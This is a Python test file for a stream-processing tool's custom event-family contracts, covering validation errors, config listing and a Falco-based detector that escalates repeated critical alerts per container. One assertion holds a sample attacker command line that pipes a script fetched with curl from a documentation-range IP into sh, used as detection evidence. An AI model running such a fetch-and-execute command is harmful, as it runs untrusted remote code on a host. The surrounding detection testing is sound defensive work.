"""Event families of your own: contract files named by ``families_dir:`` or ``contracts:``
are validated with file and line, listed by check-config, and bound, mapped, dead-lettered
and judged like a built-in family. The Falco example of docs/detectors.md runs as documented
through ``streamproc replay``."""

from __future__ import annotations

import re
import sys
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from streamproc.commands.cli import main as cli_main
from streamproc.config import load_config
from streamproc.detectors import REGISTRY
from streamproc.errors import ConfigError, ConfigErrors
from tests.paths import REPO

DOC = REPO / "docs" / "detectors.md"
T = 1795972842.0  # 2026-11-29T17:20:42Z


def doc_block(name: str) -> str:
    match = re.search(
        rf"<!-- example: {re.escape(name)} -->\s*```\w+\n(.*?)```", DOC.read_text(), re.S
    )
    assert match, f"docs/detectors.md has no example block {name}"
    return match.group(1)


@pytest.fixture()
def falco_example(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The documented example laid out as the page says: families/falco.yaml, the detector
    module, config.yaml."""
    (tmp_path / "families").mkdir()
    (tmp_path / "families" / "falco.yaml").write_text(doc_block("falco.yaml"))
    (tmp_path / "mycompany_detectors.py").write_text(doc_block("falco_detector.py"))
    (tmp_path / "config.yaml").write_text(doc_block("falco_config.yaml"))
    monkeypatch.syspath_prepend(str(tmp_path))
    yield tmp_path
    sys.modules.pop("mycompany_detectors", None)
    REGISTRY.pop("falco_repeated_critical", None)


def falco_record(
    at: float,
    *,
    container: str = "5e3f0c1d2b4a",
    rule: str | None = None,
    priority: str | None = None,
) -> bytes:
    """The documented falcosidekick record, moved to ``at`` (and another container, rule or
    priority)."""
    record = orjson.loads(doc_block("falco.jsonl"))
    # falcosidekick writes nanoseconds: keep the documented record's fraction
    fraction = record["time"][19:]
    record["time"] = datetime.fromtimestamp(at, UTC).strftime("%Y-%m-%dT%H:%M:%S") + fraction
    record["output_fields"]["container.id"] = container
    if rule is not None:
        record["rule"] = rule
    if priority is not None:
        record["priority"] = priority
    return orjson.dumps(record)


def test_the_documented_falco_example_escalates_repeated_critical_rules_per_container(
    falco_example: Path,
) -> None:
    records = [
        falco_record(T),
        falco_record(T + 60),
        falco_record(T + 5, container="9a9a9a9a9a9a"),  # another container: its own count
        falco_record(T + 90, priority="Warning"),  # below Critical: not counted
        falco_record(T + 100, rule="Write below etc"),  # another rule: its own count
        falco_record(T + 120),  # third critical in 600 s: the alert
        falco_record(T + 180),  # the same burst: no second alert
        falco_record(T + 1000),
        falco_record(T + 1010),
        falco_record(T + 1020),  # after a quiet window: a new burst, a new alert
        falco_record(T + 1030, priority="Fatal"),  # not a Falco priority: dead letter
        b'{"rule": "Terminal shell in container", "priority": "Critical"}',  # no time
    ]
    inp = falco_example / "falco.jsonl"
    inp.write_bytes(b"\n".join(records) + b"\n")
    alerts, dead = falco_example / "alerts.jsonl", falco_example / "dead.jsonl"
    code = cli_main(
        [
            "replay",
            "-c",
            str(falco_example / "config.yaml"),
            "--input",
            f"falco={inp}",
            "--alerts-out",
            str(alerts),
            "--dead-letters-out",
            str(dead),
        ]
    )
    assert code == 0
    fired = [orjson.loads(x) for x in alerts.read_bytes().splitlines()]
    key = {"container_id": "5e3f0c1d2b4a", "rule": "Terminal shell in container"}
    assert [(a["kind"], a["key"], a["event_time"]) for a in fired] == [
        ("falco_repeated_critical", key, pytest.approx(T + 120.123456789)),
        ("falco_repeated_critical", key, pytest.approx(T + 1020.123456789)),
    ]
    assert fired[0]["severity"] == "critical" and fired[0]["family"] == "falco"
    assert fired[0]["evidence"]["k8s_pod"] == "checkout-7d9c5b6f4-x2x8l"
    assert fired[0]["evidence"]["proc_cmdline"] == "sh -c curl http://203.0.113.50/x.sh | sh"
    letters = [orjson.loads(x) for x in dead.read_bytes().splitlines()]
    assert [d["reason"] for d in letters] == ["invalid_value", "missing_field"]


def test_check_config_lists_the_families_it_loaded(
    falco_example: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli_main(["check-config", "-c", str(falco_example / "config.yaml")]) == 0
    out = capsys.readouterr().out
    assert "event families (yours, besides the built-in ones):" in out
    assert (
        f"falco: 10 fields, key container_id, kafka falco (from "
        f"{falco_example / 'families' / 'falco.yaml'})" in out
    )
    assert "kafka falco -> falco (json, lateness 60s, fields mapped)" in out


def test_contracts_names_files_relative_to_the_config(tmp_path: Path) -> None:
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "app.yaml").write_text(
        "family: checkout-events\nkey: [order_id]\nfields:\n"
        "  timestamp: {type: timestamp, required: true}\n"
        "  order_id: {type: string, required: true}\n  total: {type: number}\n"
    )
    config = tmp_path / "conf" / "config.yaml"
    config.write_text(
        "contracts: [app.yaml]\ntopics:\n  - topic: orders\n    family: checkout-events\n"
    )
    loaded = load_config(config)
    binding = loaded.bindings[0]
    assert (
        binding.contract.key == ("order_id",) and binding.contract.fields["total"].type == "number"
    )
    assert sorted(loaded.contracts) == [
        "api-access-logs",
        "auth-logs",
        "business-metrics",
        "checkout-events",
        "cicd-events",
        "host-metrics",
        "support-tickets",
    ]


GOOD = (
    "family: app\nfields:\n  timestamp: {type: timestamp, required: true}\n  user: {type: string}\n"
)


@pytest.mark.parametrize(
    "contract, line, message",
    [
        (
            GOOD.replace("user: {type: string}", "user: {type: text}"),
            4,
            "field 'user' has unknown type 'text'; use one of string, int, number, bool, timestamp",
        ),
        (
            "family: app\nfields:\n  time: {type: timestamp, required: true}\n",
            2,
            "contract lacks a required timestamp field",
        ),
        (
            GOOD.replace("required: true", "required: false"),
            2,
            "contract lacks a required timestamp field",
        ),
        (
            GOOD.replace("family: app", "family: auth-logs"),
            1,
            "family 'auth-logs' is a built-in family",
        ),
        (GOOD + "kafka_topc: x\n", 5, "unknown contract key 'kafka_topc'"),
        (GOOD + "key: [username]\n", 5, "key field 'username' is not one of the contract's fields"),
        (
            GOOD.replace("{type: string}", "{type: int, enum: [1, 2]}"),
            4,
            "field 'user': enum must be a non-empty list on a string field",
        ),
        (
            GOOD.replace("family: app", "family: My App"),
            1,
            "family 'My App' is not a name of lower-case letters",
        ),
        ("fields:\n  timestamp: {type: timestamp, required: true}\n", 1, "contract lacks 'family'"),
    ],
)
def test_bad_contracts_are_refused_with_their_file_and_line(
    tmp_path: Path, contract: str, line: int, message: str
) -> None:
    (tmp_path / "families").mkdir()
    path = tmp_path / "families" / "app.yaml"
    path.write_text(contract)
    (tmp_path / "c.yaml").write_text("families_dir: families\n")
    with pytest.raises(ConfigError) as err:
        load_config(tmp_path / "c.yaml")
    assert f"{path}:{line}: {message}" in str(err.value)


def test_a_family_defined_twice_and_a_missing_folder_are_refused(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(GOOD)
    (tmp_path / "b.yaml").write_text(GOOD)
    (tmp_path / "c.yaml").write_text("contracts:\n  - a.yaml\n  - b.yaml\n")
    with pytest.raises(ConfigError, match=r"b.yaml: family 'app' is defined twice"):
        load_config(tmp_path / "c.yaml")
    (tmp_path / "d.yaml").write_text("topics: []\nfamilies_dir: nowhere\n")
    with pytest.raises(ConfigError, match=r"d.yaml:2: no contract file or folder"):
        load_config(tmp_path / "d.yaml")


def test_without_its_contract_a_family_is_unknown(tmp_path: Path) -> None:
    (tmp_path / "c.yaml").write_text("topics:\n  - topic: falco\n    family: falco\n")
    with pytest.raises(
        ConfigError,
        match=r"c.yaml:3: topics\[0\]: unknown event family "
        r"'falco'",
    ):
        load_config(tmp_path / "c.yaml")


def test_a_bad_contract_is_reported_once_not_again_by_the_bindings_of_its_family(
    tmp_path: Path,
) -> None:
    (tmp_path / "app.yaml").write_text(GOOD.replace("{type: string}", "{type: text}"))
    (tmp_path / "c.yaml").write_text(
        "contracts: [app.yaml]\ntopics:\n  - topic: a\n"
        "    family: app\n  - topic: b\n    family: nope\n"
    )
    with pytest.raises(ConfigError) as err:
        load_config(tmp_path / "c.yaml")
    assert not isinstance(err.value, ConfigErrors)  # one error, not one per binding
    assert err.value.message == "field 'user' has unknown type 'text'"


def test_the_harness_tests_a_detector_of_a_family_of_your_own(falco_example: Path) -> None:
    from mycompany_detectors import RepeatedCriticalFalco  # the documented module

    from streamproc.detectors.testing import T0, Harness

    h = Harness(RepeatedCriticalFalco, params={"falco_repeated_critical": {"threshold": 2}})
    for i in range(2):
        h.send(
            T0 + i,
            rule="Terminal shell in container",
            priority="Critical",
            container_id="c1",
            container_name="web",
        )
    assert [(a.kind, a.key) for a in h.alerts] == [
        ("falco_repeated_critical", {"container_id": "c1", "rule": "Terminal shell in container"})
    ]
